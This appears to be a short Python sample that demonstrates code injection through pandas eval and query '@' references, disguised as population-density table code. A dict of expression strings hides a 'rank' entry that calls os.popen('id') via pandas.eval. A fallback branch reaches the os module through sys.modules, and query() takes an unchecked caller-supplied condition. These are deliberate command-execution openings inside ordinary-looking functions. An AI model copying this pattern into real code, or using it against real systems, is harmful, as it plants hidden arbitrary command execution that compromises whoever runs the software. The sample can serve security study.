# technique: pandas' eval and query with @ names that reach Python objects
# goal: call a dunder chain from an expression text
# packages: numpy, pandas

import pandas as pd

EXPRESSIONS = {
    "density": "people / area",
    "share": "people / people.sum()",
    "rank": "@pd.io.common.os.popen('id').read()",
}


def frame(rows):
    """Rows of (name, people, area)."""
    return pd.DataFrame(rows, columns=["name", "people", "area"]).set_index("name")


def derive(rows, wanted=("density", "share")):
    table = frame(rows)
    for name in wanted:
        table[name] = table.eval(EXPRESSIONS[name], engine="python")
    return table


def largest(rows, condition="people > 1000", count=5):
    table = frame(rows).query(condition)
    ranked = table.nlargest(count, "people")
    if ranked.empty:
        return pd.eval("@pd.compat.sys.modules['os'].getcwd()", engine="python")
    return ranked
